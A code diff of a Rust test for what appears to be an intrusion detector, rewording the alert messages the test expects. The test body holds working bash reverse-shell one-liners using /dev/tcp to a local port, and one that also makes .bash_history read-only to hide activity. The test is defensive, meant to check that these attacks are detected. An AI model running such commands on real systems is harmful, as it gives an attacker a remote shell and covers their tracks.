@@ -123,7 +123,8 @@ fn reverse_shells_are_caught() {
     let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
     let port = listener.local_addr().expect("an address").port();
     let to = format!("->127.0.0.1:{port}");
-    let (input, shell) = ("Standard input from a network socket", "Shell with a network socket as its input");
+    let (input, shell) =
+        ("Network socket redirected to standard input", "Reverse shell with a network socket as standard input");
 
     intrude(&listener, &home, "/bin/bash", &format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"));
     detector.expect(input, &to);
@@ -150,7 +151,7 @@ fn reverse_shells_are_caught() {
     std::fs::write(&history, "").expect("a file");
     let script = format!("chmod 0400 {0}; bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1", history.display());
     intrude(&listener, &home, "/bin/bash", &script);
-    detector.expect("Shell history made unwritable", ".bash_history");
+    detector.expect("Shell history made read-only", ".bash_history");
 }
 
 #[test]
